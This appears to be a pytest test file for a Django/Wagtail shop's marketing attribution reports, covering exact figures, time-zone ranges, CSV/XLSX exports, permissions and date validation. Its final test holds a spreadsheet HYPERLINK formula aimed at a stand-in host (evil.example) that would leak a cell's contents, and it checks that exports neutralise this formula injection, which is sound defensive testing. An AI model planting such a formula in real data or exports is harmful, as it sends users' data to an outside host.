"""The marketers' attribution reports: exact figures per grouping, model and status,
range edges in the site's time zone, exports, roles and the page editor's panel."""

import csv
import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from wagtail.models import GroupPagePermission

from content.reports import ReportQuery, report_table
from content.reports.exports import table_csv
from shop.attribution.models import AttributionCredit, DailyEngagement, Touch
from shop.attribution.rollups import rollups_advance
from shop.checkout.services import CheckoutLine, ShippingAddress, checkout_complete
from shop.orders import services as order_services
from tests.spreadsheets import csv_rows, xlsx_cells

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
SINCE, UNTIL = datetime.date(2025, 3, 1), datetime.date(2025, 3, 31)
ADDRESS = ShippingAddress(recipient="林小姐", phone="13800000000", city="杭州", address_line="西湖区文三路 1 号")
REPORTS = "/admin/marketing-reports/"
RANGE = "since=2025-03-01&until=2025-03-31"


def at(day, hour=12, minute=0, second=0):
    return datetime.datetime(2025, 3, day, hour, minute, second, tzinfo=SHANGHAI)


def place(sku, *, key, status="paid"):
    order = checkout_complete(
        idempotency_key=key, lines=[CheckoutLine(sku_code=sku.code, quantity=1)], email="lin@example.com",
        address=ADDRESS, shipping_method="standard", payment_method="offline",
    )
    if status in ("paid", "cancelled_after_payment"):
        order_services.order_mark_paid(order_id=order.pk)
    if status in ("cancelled", "cancelled_after_payment"):
        order_services.order_cancel(order_id=order.pk)
    order.refresh_from_db()
    return order


def credit(order, *, model="last_touch", revenue, direct=None, assisted="0.00", article=None, placed=None,
           touch=None, kind="order", block_id="", block_type="", position=None, **keys):
    return AttributionCredit.objects.create(
        order=order, model=model, kind=kind, touch=touch, article_page_id=article, block_id=block_id,
        block_type=block_type, position=position, revenue=Decimal(revenue),
        direct_revenue=Decimal(revenue if direct is None else direct), assisted_revenue=Decimal(assisted),
        order_placed_at=placed or at(10), **keys,
    )


def touch(article, *, when, block_id="b1", block_type="product_card", position=1, **keys):
    return Touch.objects.create(
        visitor_id="v:x", created_at=when, article_page_id=article.pk, block_id=block_id,
        block_type=block_type, position=position, **keys,
    )


@pytest.fixture
def world(article_factory, author_factory, category_factory, sku_factory):
    """Two articles in March 2025: "Best kettles" (b1, product card, position 1) and
    "Tea for two" (b2, product grid, position 2); paid, pending and cancelled orders."""
    ann, bo = author_factory(name="Ann"), author_factory(name="Bo")
    kitchen = category_factory(name="Kitchen")
    kettles = article_factory(title="Best kettles", author=ann, category=kitchen)
    tea = article_factory(title="Tea for two", author=bo, category=None)
    sku = sku_factory(price="100.00", stock=50)

    first = touch(kettles, when=at(9), utm_campaign="spring", curator_code="lin")
    touch(kettles, when=at(9, 13), utm_campaign="spring", curator_code="lin")
    touch(kettles, when=at(11), utm_campaign="spring")
    touch(tea, when=at(12), block_id="b2", block_type="product_grid", position=2)
    touch(tea, when=at(13), block_id="b2", block_type="product_grid", position=2)
    b1 = {"article": kettles.pk, "block_id": "b1", "block_type": "product_card", "position": 1}
    b2 = {"article": tea.pk, "block_id": "b2", "block_type": "product_grid", "position": 2}

    o1 = place(sku, key="o1")
    credit(o1, revenue="100.00", direct="80.00", assisted="20.00", touch=first, utm_campaign="spring",
           curator_code="lin", **b1)
    credit(o1, model="linear", revenue="50.00", direct="40.00", assisted="10.00", touch=first,
           utm_campaign="spring", curator_code="lin", **b1)
    credit(o1, model="linear", revenue="50.00", direct="40.00", assisted="10.00", **b2)
    o2 = place(sku, key="o2")
    credit(o2, revenue="60.00", placed=at(11), **b2)
    credit(o2, revenue="-10.00", kind="reversal", placed=at(11), **b2)
    credit(o2, model="linear", revenue="60.00", placed=at(11), **b2)
    credit(o2, model="linear", revenue="-10.00", kind="reversal", placed=at(11), **b2)
    o5 = place(sku, key="o5")
    for model in ("last_touch", "linear"):
        credit(o5, model=model, revenue="30.00", direct="0.00", assisted="30.00", placed=at(12))
    o3 = place(sku, key="o3", status="pending")
    credit(o3, revenue="40.00", placed=at(13), **b1)
    o4 = place(sku, key="o4", status="cancelled_after_payment")
    credit(o4, revenue="25.00", placed=at(14), **b1)
    credit(o4, revenue="-25.00", kind="reversal", placed=at(14), **b1)

    DailyEngagement.objects.create(date=SINCE, article_page_id=kettles.pk, views=200)
    DailyEngagement.objects.create(date=SINCE, article_page_id=kettles.pk, block_id="b1",
                                   block_type="product_card", position=1, impressions=50)
    DailyEngagement.objects.create(date=UNTIL, article_page_id=tea.pk, views=100)
    DailyEngagement.objects.create(date=UNTIL, article_page_id=tea.pk, block_id="b2",
                                   block_type="product_grid", position=2, impressions=40)
    return {"kettles": kettles, "tea": tea, "ann": ann, "bo": bo, "kitchen": kitchen, "sku": sku, "orders": [o1, o2, o3, o4, o5]}


def table(by="article", **kwargs):
    return report_table(ReportQuery(by=by, since=SINCE, until=UNTIL, **kwargs))


def texts(tbl):
    return [[cell.text for cell in cells] for _row, cells in tbl.lines()]


HEADER = ["Article", "Views", "Impressions", "Clicks", "CTR", "Orders", "Revenue", "Direct", "Assisted",
          "Conversion", "Avg. order", "Revenue / 1,000 views"]


def test_article_table_under_last_touch_counts_paid_orders(world):
    # given the world; when the article table is built with the defaults
    tbl = table()

    # then every figure is exact, the unattributed row and the totals close the table
    assert tbl.header() == HEADER
    assert texts(tbl) == [
        ["Best kettles", "200", "50", "3", "6.00%", "1", "100.00", "80.00", "20.00", "33.33%", "100.00", "500.00"],
        ["Tea for two", "100", "40", "2", "5.00%", "1", "50.00", "50.00", "0.00", "50.00%", "50.00", "500.00"],
        ["Direct / unattributed", "—", "—", "0", "—", "1", "30.00", "0.00", "30.00", "—", "30.00", "—"],
        ["Total", "300", "90", "5", "5.56%", "3", "180.00", "130.00", "50.00", "60.00%", "60.00", "600.00"],
    ]
    assert [row.key for row in tbl.rows] == [str(world["kettles"].pk), str(world["tea"].pk), "unattributed"]
    assert tbl.total.revenue == Decimal("180.00")


def test_placed_adds_orders_awaiting_payment_and_all_adds_cancelled_ones_netted_to_zero(world):
    placed = table(status="placed")
    everything = table(status="all")

    assert [(r.label, r.orders, r.revenue) for r in placed.rows] == [
        ("Best kettles", 2, Decimal("140.00")), ("Tea for two", 1, Decimal("50.00")),
        ("Direct / unattributed", 1, Decimal("30.00")),
    ]
    # the cancelled order's credit and reversal sum to zero: no revenue, not an order
    assert [(r.label, r.orders, r.revenue) for r in everything.rows] == [
        (r.label, r.orders, r.revenue) for r in placed.rows
    ]
    assert (placed.total.orders, everything.total.orders) == (4, 4)


def test_fully_reversed_orders_do_not_count_but_partly_refunded_ones_do(world):
    kettles = world["kettles"]
    o2 = world["orders"][1]
    credit(o2, revenue="-50.00", kind="reversal", placed=at(11), article=world["tea"].pk,
           block_id="b2", block_type="product_grid", position=2)

    tbl = table()

    tea = next(r for r in tbl.rows if r.label == "Tea for two")
    assert (tea.orders, tea.revenue, tea.average_order_value) == (0, Decimal("0.00"), None)
    assert next(r for r in tbl.rows if r.key == str(kettles.pk)).orders == 1
    assert tbl.total.orders == 2


def test_side_by_side_shows_each_models_revenue(world):
    tbl = table(model="linear", side_by_side=True)

    assert tbl.header()[12:] == ["Last touch", "First touch", "Linear", "Time decay", "Position-based"]
    assert [cells[:1] + cells[5:9] + cells[12:] for cells in texts(tbl)] == [
        ["Tea for two", "2", "100.00", "90.00", "10.00", "50.00", "0.00", "100.00", "0.00", "0.00"],
        ["Best kettles", "1", "50.00", "40.00", "10.00", "100.00", "0.00", "50.00", "0.00", "0.00"],
        ["Direct / unattributed", "1", "30.00", "0.00", "30.00", "30.00", "0.00", "30.00", "0.00", "0.00"],
        ["Total", "3", "180.00", "130.00", "50.00", "180.00", "0.00", "180.00", "0.00", "0.00"],
    ]


def test_author_category_campaign_curator_block_and_position_tables(world):
    def rows(by):
        return [(r.label, r.clicks, r.orders, r.revenue) for r in table(by).rows]

    assert rows("author") == [("Ann", 3, 1, Decimal("100.00")), ("Bo", 2, 1, Decimal("50.00")),
                              ("Direct / unattributed", 0, 1, Decimal("30.00"))]
    assert rows("category") == [("Kitchen", 3, 1, Decimal("100.00")), ("(no category)", 2, 1, Decimal("50.00")),
                                ("Direct / unattributed", 0, 1, Decimal("30.00"))]
    assert rows("campaign") == [("spring", 3, 1, Decimal("100.00")), ("(no campaign)", 2, 1, Decimal("50.00")),
                                ("Direct / unattributed", 0, 1, Decimal("30.00"))]
    assert rows("curator") == [("lin", 2, 1, Decimal("100.00")), ("(no curator)", 3, 1, Decimal("50.00")),
                               ("Direct / unattributed", 0, 1, Decimal("30.00"))]
    assert rows("block_type") == [("Product card", 3, 1, Decimal("100.00")), ("Product grid", 2, 1, Decimal("50.00")),
                                  ("Direct / unattributed", 0, 1, Decimal("30.00"))]
    assert [(r.label, r.impressions, r.views, r.ctr) for r in table("position").rows[:2]] == [
        ("1", 50, None, Decimal("6.00")), ("2", 40, None, Decimal("5.00")),
    ]
    assert table("author").total.revenue == table("campaign").total.revenue == Decimal("180.00")


def test_range_is_both_days_inclusive_in_the_site_time_zone(world, article_factory):
    edge = article_factory(title="Edges")
    utc = datetime.UTC
    # 2025-03-01 00:00 in Shanghai is 2025-02-28 16:00 UTC: inside; a second earlier is outside.
    touch(edge, when=datetime.datetime(2025, 2, 28, 16, 0, tzinfo=utc))
    touch(edge, when=datetime.datetime(2025, 2, 28, 15, 59, 59, tzinfo=utc))
    # 2025-03-31 23:59:59 in Shanghai is inside; 2025-04-01 00:00 Shanghai is outside.
    touch(edge, when=datetime.datetime(2025, 3, 31, 23, 59, 59, tzinfo=SHANGHAI))
    touch(edge, when=datetime.datetime(2025, 4, 1, 0, 0, tzinfo=SHANGHAI))
    order = world["orders"][0]
    credit(order, model="first_touch", revenue="7.00", article=edge.pk, placed=datetime.datetime(2025, 2, 28, 16, 0, tzinfo=utc))
    credit(order, model="first_touch", revenue="9.00", article=edge.pk, placed=datetime.datetime(2025, 2, 28, 15, 59, tzinfo=utc))

    row = next(r for r in table(model="first_touch").rows if r.label == "Edges")

    assert (row.clicks, row.revenue) == (2, Decimal("7.00"))
    one_day = report_table(ReportQuery(since=SINCE, until=SINCE, model="first_touch"))
    assert next(r for r in one_day.rows if r.label == "Edges").clicks == 1


def test_article_drill_down_by_block_and_position(world):
    kettles = world["kettles"]
    touch(kettles, when=at(15), block_id="b9", block_type="comparison_table", position=4)

    tbl = report_table(ReportQuery(since=SINCE, until=UNTIL, article_id=kettles.pk))

    assert [cells[:7] for cells in texts(tbl)] == [
        ["Product card at position 1", "—", "50", "3", "6.00%", "1", "100.00"],
        ["Comparison table at position 4", "—", "0", "1", "—", "0", "0.00"],
        ["Total", "200", "50", "4", "8.00%", "1", "100.00"],
    ]


def test_report_costs_the_same_queries_whatever_its_rows(world, article_factory):
    rollups_advance()  # a report request rolls up closed days first; measured below is the report
    with CaptureQueriesContext(connection) as few:
        table("author")
    for n in range(4):
        article = article_factory(title=f"More {n}")
        touch(article, when=at(20))
        credit(world["orders"][0], revenue="1.00", article=article.pk)
    with CaptureQueriesContext(connection) as many:
        tbl = table("author")

    assert len(tbl.rows) >= 3
    assert len(many) == len(few) <= 10


def test_csv_export_holds_exactly_the_rows_and_totals_on_screen(client, world, admin_user, soup):
    client.force_login(admin_user)

    page = soup(client.get(f"{REPORTS}by/article/?{RANGE}&model=last_touch&status=paid"))
    export = client.get(f"{REPORTS}by/article/?{RANGE}&model=last_touch&status=paid&export=csv")

    screen = [[cell.get_text(strip=True) for cell in tr.find_all(["th", "td"])] for tr in page.select("table.hw-report-table tr")]
    assert export["Content-Type"].startswith("text/csv")
    assert list(csv.reader(io.StringIO(export.content.decode()))) == screen
    assert screen[-1][0] == "Total" and screen[-1][6] == "180.00"


def test_xlsx_export_opens_with_the_same_rows(client, world, admin_user):
    client.force_login(admin_user)

    export = client.get(f"{REPORTS}by/campaign/?{RANGE}&export=xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:7] == ["Campaign (UTM)", "Views", "Impressions", "Clicks", "CTR", "Orders", "Revenue"]
    assert [row[0] for row in values[1:]] == ["spring", "(no campaign)", "Direct / unattributed", "Total"]
    assert Decimal(str(values[-1][6])) == Decimal("180.00")
    assert len(values) - 1 == len(list(csv.reader(io.StringIO(table_csv(table("campaign")))))) - 1


def test_overview_shows_totals_and_a_daily_chart(client, world, admin_user, soup):
    client.force_login(admin_user)

    page = soup(client.get(f"{REPORTS}?{RANGE}"))

    totals = {div.dt.get_text(strip=True): div.dd.get_text(strip=True) for div in page.select(".hw-report-totals div")}
    assert totals["Revenue"] == "¥180.00"
    assert totals["Clicks"] == "5"
    assert totals["Orders"] == "3"
    assert totals["Direct / unattributed"] == "¥30.00"
    assert totals["Revenue / 1,000 views"] == "¥600.00"
    assert len(page.select("svg rect.hw-chart-bar")) == 31


def _member(django_user_model, username, group):
    user = django_user_model.objects.create_user(username, f"{username}@example.com", "pw")
    user.groups.add(group)
    return user


def test_marketer_sees_every_article_and_the_menu(client, world, django_user_model):
    marketer = _member(django_user_model, "mia", Group.objects.get(name="Marketers"))
    client.force_login(marketer)

    response = client.get(f"{REPORTS}by/article/?{RANGE}")
    home = client.get("/admin/")

    assert response.status_code == 200
    assert "Best kettles" in response.content.decode() and "Tea for two" in response.content.decode()
    assert "Marketing reports" in home.content.decode()


def test_editor_sees_only_the_articles_they_can_edit(client, world, django_user_model):
    kettles = world["kettles"]
    group = Group.objects.create(name="Kitchen desk")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_own_attribution_reports"),
    )
    GroupPagePermission.objects.create(group=group, page=kettles, permission=Permission.objects.get(codename="change_page"))
    editor = _member(django_user_model, "ed", group)
    client.force_login(editor)

    tbl = report_table(ReportQuery(since=SINCE, until=UNTIL), user=editor)
    other = client.get(f"{REPORTS}article/{world['tea'].pk}/")
    own = client.get(f"{REPORTS}article/{kettles.pk}/?{RANGE}")

    assert [(r.label, r.revenue) for r in tbl.rows] == [("Best kettles", Decimal("100.00"))]
    assert (tbl.total.revenue, tbl.total.clicks, tbl.total.views) == (Decimal("100.00"), 3, 200)
    assert (other.status_code, own.status_code) == (403, 200)


def test_editors_group_may_open_the_reports(client, world, django_user_model):
    editor = _member(django_user_model, "eve", Group.objects.get(name="Editors"))
    client.force_login(editor)

    assert client.get(f"{REPORTS}by/author/?{RANGE}").status_code == 200


def test_user_without_the_permission_gets_403_and_no_menu(client, world, django_user_model):
    group = Group.objects.create(name="Admin only")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user = _member(django_user_model, "olga", group)
    client.force_login(user)

    assert client.get(REPORTS).status_code == 403
    assert client.get(f"{REPORTS}by/article/?export=csv").status_code == 403
    assert "Marketing reports" not in client.get("/admin/").content.decode()


def test_bad_filters_show_an_error_and_unknown_grouping_is_404(client, world, admin_user):
    client.force_login(admin_user)

    response = client.get(f"{REPORTS}by/article/?since=2025-03-31&until=2025-03-01")

    assert response.status_code == 200
    assert "The start date must not be after the end date." in response.content.decode()
    assert client.get(f"{REPORTS}by/weather/").status_code == 404


def test_article_editor_shows_the_last_30_days(client, article_factory, sku_factory, admin_user, soup):
    article = article_factory(title="Fresh")
    now = timezone.now()
    touch(article, when=now)
    touch(article, when=now - datetime.timedelta(days=40))
    DailyEngagement.objects.create(date=timezone.localdate(), article_page_id=article.pk, views=12)
    order = place(sku_factory(price="10.00"), key="fresh")
    credit(order, revenue="88.50", article=article.pk, placed=now)
    client.force_login(admin_user)

    page = soup(client.get(f"/admin/pages/{article.pk}/edit/"))

    panel = page.select_one(".hw-attribution-panel")
    figures = {div.dt.get_text(strip=True): div.dd.get_text(strip=True) for div in panel.select("dl div")}
    assert figures == {"Views": "12", "Clicks": "1", "Orders": "1", "Revenue": "88.50"}
    assert panel.find("a")["href"] == f"{REPORTS}article/{article.pk}/"


@pytest.mark.parametrize(("dates", "message"), [
    ("since=0001-01-01&until=0001-01-02", "Choose dates from 2000-01-01 to 2100-12-31."),
    ("since=0001-01-01&until=0001-01-01", "Choose dates from 2000-01-01 to 2100-12-31."),
    ("since=9999-12-30&until=9999-12-31", "Choose dates from 2000-01-01 to 2100-12-31."),
    ("until=9999-12-31", "Choose dates from 2000-01-01 to 2100-12-31."),
    ("since=10000-01-01&until=10000-01-02", "Enter a valid date."),
    ("since=2025-03-31&until=2025-03-01", "The start date must not be after the end date."),
])
@pytest.mark.parametrize("where", ["", "by/article/", "by/campaign/", "article", "by/article/?export=csv",
                                   "by/article/?export=xlsx"])
def test_dates_out_of_range_answer_a_form_error_on_every_report(client, world, admin_user, dates, message, where):
    # given a marketer on a report (the overview, a table, an article's drill-down, an export)
    client.force_login(admin_user)
    if where == "article":
        where = f"article/{world['kettles'].pk}/"
    separator = "&" if "?" in where else "?"

    # when they ask for dates the calendar or the database cannot hold
    response = client.get(f"{REPORTS}{where}{separator}{dates}")

    # then the page answers with the filter form and its error, not a 500 or a file
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Spring sale")'


def test_report_exports_keep_a_visitors_campaign_name_from_running_as_a_formula(client, world, admin_user):
    # given a visitor who arrived with a utm_campaign that is a spreadsheet formula, and bought
    sku = world["sku"]
    hostile = touch(world["kettles"], when=at(15), utm_campaign=HYPERLINK)
    credit(place(sku, key="evil"), revenue="70.00", touch=hostile, utm_campaign=HYPERLINK, placed=at(15))
    client.force_login(admin_user)

    # when a marketer exports the campaign table as CSV and as XLSX
    as_csv = csv_rows(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=csv"))
    as_xlsx = xlsx_cells(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=xlsx"))

    # then the CSV cell starts with an apostrophe, the XLSX cell is text, exactly as typed
    assert [row[0] for row in as_csv[1:]] == ["spring", "'" + HYPERLINK, "(no campaign)", "Direct / unattributed", "Total"]
    assert as_xlsx[2][0] == (HYPERLINK, "s")
    # and figures stay figures: the revenue is a number in both
    assert as_csv[2][6] == "70.00"
    assert as_xlsx[2][6] == (70, "n")
